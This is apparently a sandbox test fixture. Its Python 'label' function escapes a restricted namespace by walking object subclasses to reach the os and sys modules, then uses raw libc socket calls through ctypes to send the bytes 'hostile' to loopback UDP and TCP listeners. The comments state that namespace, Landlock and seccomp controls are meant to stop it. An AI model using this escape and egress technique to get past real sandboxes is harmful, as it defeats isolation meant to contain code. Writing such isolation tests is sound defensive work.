# Sends data to a listener of the Alchemist process's machine over loopback (UDP and TCP),
# through the C library (ctypes is loaded in the worker; the socket module need not be).
# Stopped by the network namespace (no interface up), Landlock (no TCP connect) and seccomp
# (no socket).
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    modules = _os_globals()["sys"].modules
    ctypes, os = modules["ctypes"], modules["os"]
    libc = ctypes.CDLL(None, use_errno=True)

    def check(result):
        if result < 0:
            number = ctypes.get_errno()
            raise OSError(number, os.strerror(number))
        return result

    for kind, port in ((2, int("@UDP_PORT@")), (1, int("@TCP_PORT@"))):  # datagram, stream
        fd = check(libc.socket(2, kind, 0))  # AF_INET
        address = b"\x02\x00" + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
        check(libc.connect(fd, address, len(address)))
        check(libc.send(fd, b"hostile", 7, 0))
    return 1
